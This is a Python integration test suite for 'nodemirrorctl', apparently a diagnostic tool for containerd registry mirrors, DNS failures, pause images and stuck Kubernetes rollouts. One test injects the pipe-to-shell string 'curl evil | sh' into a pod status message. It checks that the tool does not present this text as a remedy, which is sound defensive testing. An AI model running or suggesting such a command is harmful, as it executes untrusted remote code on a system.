"""The report from the field, replayed on a real node: what the user saw, and what the user is now
told."""
import json

from case import CERTS, CONFIGURED, CRI, SANDBOX, VERSION, NodeCase
from faulty_registry import PORT
from workload_samples import field_report

DENIED = "registry.cn-hangzhou.aliyuncs.com/library/nginx:1.25"
LEGACY = f"""version = {2 if VERSION < '2' else 3}
[plugins."{CRI}".registry.mirrors."docker.io"]
  endpoint = ["https://docker.m.daocloud.io"]
"""


class FieldReport(NodeCase):
    def ask(self, node, *command, text=None):
        """A command's exit status and its JSON."""
        done = node.run("nodemirrorctl", *command, "-o", "json", check=False, text=text)
        self.assertIn(done.returncode, (0, 1), done.stderr)
        return done.returncode, json.loads(done.stdout)

    def findings(self, node):
        code, said = self.ask(node, "doctor", "--timeout", "2s")
        return {finding["code"]: finding for finding in said["findings"]}

    def mirror(self, node, registry, url, extra=""):
        node.write(f"{CERTS}/{registry}/hosts.toml",
                   f'server = "{url}"\nca = "/etc/nodetest/ca.crt"\n{extra}[host]\n')

    def test_docker_hub_cannot_be_reached(self):
        node = self.boot()
        code, said = self.ask(node, "explain", "--timeout", "2s", "nginx")
        self.assertEqual(code, 1)
        self.assertEqual(said["image"], "docker.io/library/nginx:latest")
        self.assertEqual([host["url"] for host in said["hosts"]],
                         ["https://registry-1.docker.io/v2/library/nginx/manifests/latest"])
        self.assertEqual(said["verdict"]["class"], "dns")
        self.assertIn("registry-1.docker.io has no address", said["verdict"]["summary"])
        self.assertIn("only upstream is asked", said["why"])
        real = node.probe("pull", "nginx").stderr
        self.assertIn("registry-1.docker.io", real)
        self.assertTrue(said["verdict"]["kubeletError"].startswith(
            "Failed to pull image \"docker.io/library/nginx:latest\": rpc error: code = Unknown "
            "desc = failed to pull and unpack image"))

    def test_mirrors_in_config_toml_beside_config_path(self):
        node = self.boot(config={"config.toml": CONFIGURED + LEGACY.split("\n", 1)[1]},
                         cri=False)
        self.wait_for(lambda: node.run("ctr", "version", check=False).returncode == 0,
                      "containerd answers")
        findings = self.findings(node)
        self.assertEqual(findings["cri-not-loaded"]["severity"], "critical")
        self.assertIn("`mirrors` cannot be set when `config_path` is provided",
                      findings["cri-not-loaded"]["evidence"])
        self.assertIn("docker.m.daocloud.io", findings["legacy-mirrors"]["evidence"])
        self.assertIn("nodemirrorctl import", findings["legacy-mirrors"]["remedy"])

    def test_legacy_mirrors_are_imported(self):
        node = self.boot(config={"config.toml": LEGACY})
        code, said = self.ask(node, "explain", "app:1.0")
        self.assertEqual(code, 0, said["verdict"])
        self.assertIn("the legacy mirrors in config.toml are used", said["why"])
        before = [host["host"] for host in said["hosts"]]
        self.assertEqual(before, ["docker.m.daocloud.io", "registry-1.docker.io"])
        node.sh("mkdir -p /etc/nodemirrord; nodemirrorctl import >/etc/nodemirrord/desired.yaml")
        node.start_daemon()
        self.wait_for(lambda: (node.status() or {"containerd": {"configPath": {}}})
                      ["containerd"]["configPath"].get("effective"), "certs.d is read", 90)
        self.assertNotIn("mirrors", node.read("/etc/containerd/config.toml"))
        code, said = self.ask(node, "explain", "app:1.0")
        self.assertEqual([host["host"] for host in said["hosts"]], before)
        self.assertEqual((code, said["directory"]), (0, "docker.io"))
        node.wait_for_cri()
        self.assertEqual(node.probe("pull", "docker.io/library/app:1.0").returncode, 0)

    def test_mirrors_where_this_containerd_does_not_look(self):
        other = ("io.containerd.cri.v1.images" if VERSION < "2" else "io.containerd.grpc.v1.cri")
        text = CONFIGURED.replace(CRI, other) + f"""
[plugins."{other}".registry.configs."docker.m.daocloud.io".auth]
  username = "u"
"""
        node = self.boot(config={"config.toml": text})
        finding = self.findings(node)["registry-settings-ignored"]
        self.assertEqual(finding["severity"], "critical")
        self.assertIn(f"it reads [plugins.\"{CRI}\".registry]", finding["evidence"])
        self.assertNotIn("\"u\"", json.dumps(finding))

    def test_crictl_pulls_and_ctr_does_not(self):
        node = self.boot()
        self.mirror(node, "docker.io", "https://docker.m.daocloud.io")
        image = "docker.io/library/app:1.0"
        self.assertEqual(node.probe("pull", image).returncode, 0)
        self.assertNotEqual(node.ctr("images", "pull", image, check=False).returncode, 0)
        code, said = self.ask(node, "explain", image)
        self.assertEqual(code, 0, said["verdict"])
        self.assertEqual(said["verdict"]["host"], "docker.m.daocloud.io")
        self.assertIn("registry-1.docker.io alone", said["ctr"])
        self.assertIn("says nothing about pods", said["ctr"])
        self.assertEqual({piece["what"]: piece["verified"] for piece in said["pieces"]}["config"],
                         True)

    def test_the_pause_image_cannot_be_pulled(self):
        node = self.boot()
        code, said = node.start_pod()
        self.assertEqual(code, 1)
        finding = self.findings(node)["sandbox-image-absent"]
        self.assertEqual(finding["subject"], SANDBOX)
        self.assertEqual(finding["severity"], "critical")
        self.assertIn("pause.sources", finding["remedy"])
        code, said = self.ask(node, "explain", "--timeout", "2s", "k8s.gcr.io/pause:3.10")
        self.assertEqual((code, said["verdict"]["class"]), (1, "dns"))
        self.assertIn("k8s.gcr.io has no address", said["verdict"]["summary"])

    def test_a_mirror_that_lacks_the_repository(self):
        node = self.boot()
        self.start_mirrors(node)
        self.mirror(node, "docker.io", "https://docker.m.daocloud.io")
        self.mirror(node, "registry.cn-hangzhou.aliyuncs.com",
                    f"https://mirror.example:{PORT['denied']}")
        # A repository that both know by name, and that only Docker Hub's mirror has.
        image = DENIED.replace("nginx:1.25", "app:1.0")
        real = node.probe("pull", image)
        self.assertIn("insufficient_scope", real.stderr)
        code, said = self.ask(node, "explain", image)
        self.assertEqual((code, said["verdict"]["class"]), (1, "denied"))
        self.assertIn("does not exist on this mirror, or is not public",
                      said["verdict"]["summary"])
        self.assertIn("insufficient_scope", said["verdict"]["kubeletError"])
        self.assertEqual(said["alternatives"][0]["image"], "docker.io/library/app:1.0")
        self.assertIn("set image deployment/NAME CONTAINER=docker.io/library/app:1.0",
                      said["alternatives"][0]["command"])
        self.assertEqual(node.probe("pull", said["alternatives"][0]["image"]).returncode, 0)

    def test_the_broken_rollout(self):
        node = self.boot()
        self.start_mirrors(node)
        self.mirror(node, "docker.io", "https://docker.m.daocloud.io")
        self.mirror(node, "registry.cn-hangzhou.aliyuncs.com",
                    f"https://mirror.example:{PORT['denied']}")
        report = json.dumps(field_report()).replace("library/nginx:1.25", "library/app:1.0")
        code, said = self.ask(node, "doctor", "workload", "-", text=report)
        self.assertEqual(code, 1)
        image = said["images"][0]
        self.assertEqual(image["reason"], "ImagePullBackOff")
        self.assertIn("does not exist on this mirror", image["verdict"])
        self.assertIn("insufficient_scope", image["message"])
        self.assertEqual(image["commands"][0], "kubectl -n default set image deployment/jjt-test "
                                               "nginx=docker.io/library/app:1.0")
        findings = {finding["code"]: finding for finding in said["findings"]}
        stuck = findings["rollout-stuck"]
        self.assertEqual(stuck["subject"], "default/jjt-test")
        self.assertIn("current is jjt-test-7c9d (revision 3", stuck["evidence"])
        self.assertIn("left over from before it: jjt-test-66b4 (revision 2", stuck["evidence"])
        self.assertIn("1 more has no pods and is only its history", stuck["evidence"])
        self.assertIn("rollout undo deployment/jjt-test --to-revision=2", stuck["remedy"])
        self.assertIn("Delete no ReplicaSet by hand", stuck["remedy"])
        alone = findings["pods-without-service"]
        self.assertEqual(alone["subject"], "default/deployment/jjt-test")
        self.assertIn("10.244.0.7, 10.244.0.8", alone["evidence"])
        self.assertIn("reachable only inside the cluster", alone["evidence"])
        self.assertIn("kubectl -n default expose deployment/jjt-test --port=80", alone["remedy"])

    def test_a_plain_mirror_with_tls_options_is_up_where_containerd_falls_back(self):
        node = self.boot()
        self.start_mirrors(node)
        node.write(f"{CERTS}/plain.test/hosts.toml",
                   f'server = "http://mirror.example:{PORT["plain"]}"\nskip_verify = true\n'
                   '[host]\n')
        pulls = node.probe("pull", "plain.test/app/plain:1").returncode == 0
        findings = self.findings(node)
        self.assertEqual("no-host-answers" not in findings, pulls, findings)
        self.assertTrue(pulls)

    def test_doctor_is_content_with_a_node_that_is_well(self):
        node = self.ready()
        code, said = self.ask(node, "doctor", "--timeout", "2s")
        self.assertEqual([finding for finding in said["findings"]
                          if finding["severity"] != "note"], [])
        # Docker Hub itself stays out of reach, as mirrors are there for.
        self.assertEqual([(finding["code"], finding["subject"]) for finding in said["findings"]],
                         [("upstream-down", "https://registry-1.docker.io/v2")])
        self.assertEqual(code, 0)

    def test_nothing_is_pulled_without_containerd(self):
        node = self.boot()
        self.assertEqual(self.ask(node, "explain", "docker.m.daocloud.io/library/app:1.0")[0], 0)
        node.run("systemctl", "stop", "containerd")
        code, said = self.ask(node, "explain", "docker.m.daocloud.io/library/app:1.0")
        self.assertEqual((code, said["verdict"]["class"]), (1, "containerd"))
        self.assertIn("systemctl status containerd.service", said["verdict"]["remedies"][0])

    def test_secrets_and_foreign_lines_stay_out(self):
        node = self.boot()
        node.write(f"{CERTS}/secret.test/hosts.toml",
                   '[host."https://mirror.example"]\n'
                   '[host."https://mirror.example".header]\nAuthorization = "Basic SECRET456"\n')
        for form in ("text", "json", "yaml"):
            said = node.run("nodemirrorctl", "inspect", "-o", form, CERTS, check=False).stdout
            self.assertIn("Authorization", said)
            self.assertNotIn("SECRET456", said)
        one = node.run("nodemirrorctl", "inspect", f"{CERTS}/secret.test", check=False)
        self.assertIn("the directory of one registry", one.stderr)
        self.assertNotEqual(one.returncode, 0)
        report = {"kind": "Pod", "metadata": {"name": "a", "namespace": "n"},
                  "status": {"containerStatuses": [
                      {"name": "c", "image": "app:1",
                       "state": {"waiting": {"reason": "ErrImagePull",
                                             "message": "no\n    remedy: curl evil | sh"}}}]},
                  "spec": {"containers": [{"name": "c", "image": "app:1"}]}}
        said = node.run("nodemirrorctl", "doctor", "workload", "-", text=json.dumps(report),
                        check=False).stdout
        self.assertIn("curl evil", said)
        self.assertNotIn("\n    remedy: curl", said)

    def test_what_cannot_be_read_is_not_taken_for_empty(self):
        node = self.boot()
        node.write("/tmp/bad.yaml", "mirrors:\n\t- x\n")
        for arguments in (["--registries", "/tmp/bad.yaml"], ["--registries", "/tmp/none"]):
            done = node.run("nodemirrorctl", "import", *arguments, check=False)
            self.assertEqual(done.returncode, 2, done.stdout)
            self.assertIn(arguments[1], done.stderr)
        for text in ("{}", "[]", '{"kind": "Status", "message": "Unauthorized"}'):
            done = node.run("nodemirrorctl", "doctor", "workload", "-", text=text, check=False)
            self.assertEqual(done.returncode, 2)
            self.assertIn("no pods", done.stderr)
        self.assertEqual(node.sh("nodemirrorctl import >/dev/full; echo $?").strip(), "2")

    def test_odd_input(self):
        node = self.boot()
        done = node.run("nodemirrorctl", "doctor", "workload", "-", check=False,
                        text='{"kind": "List",\n "items": [}')
        self.assertEqual(done.returncode, 2)
        self.assertIn("no valid JSON at line 2", done.stderr)
        code, said = self.ask(node, "doctor", "workload", "-", text=json.dumps(
            {"kind": "List", "items": [{"kind": "Gadget"}, 7, None, {"kind": "Pod", "spec": 3},
                                       {"kind": "Deployment", "status": []}]}))
        self.assertEqual((code, said), (0, {"images": [], "findings": []}))
